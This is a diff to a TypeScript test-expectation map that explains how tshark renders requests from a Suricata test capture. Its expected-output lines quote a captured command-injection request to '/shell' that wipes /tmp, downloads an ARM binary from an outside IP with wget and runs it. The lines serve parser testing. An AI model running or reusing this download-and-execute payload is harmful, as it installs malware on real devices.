@@ -41,12 +41,15 @@ export const EXPLAINED: ReadonlyMap<string, Explained> = new Map([
   ],
   [
     'OISF+suricata-verify/bug-5437-02__input.pcap',
-    tshark('a target with a space in it, of which tshark shows the part before the space', [
-      '+ request 14 GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm 127.0.0.1:80',
-      '- request 14 GET /shell?cd+/tmp;rm+-rf+*;wget+ 127.0.0.1:80',
-      '+ request 17 GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm 127.0.0.1:80',
-      '- request 17 GET /shell?cd+/tmp;rm+-rf+*;wget+ 127.0.0.1:80',
-    ]),
+    tshark(
+      'a target with a space in it, of which tshark shows the part before the space; 17 is 14 again, behind an ' +
+        'address translation',
+      [
+        '+ request 14 GET /shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm 127.0.0.1:80',
+        '- request 14 GET /shell?cd+/tmp;rm+-rf+*;wget+ 127.0.0.1:80',
+        '- request 17 GET /shell?cd+/tmp;rm+-rf+*;wget+ 127.0.0.1:80',
+      ],
+    ),
   ],
   [
     'OISF+suricata-verify/protocol-change-failed-event__input.pcap',
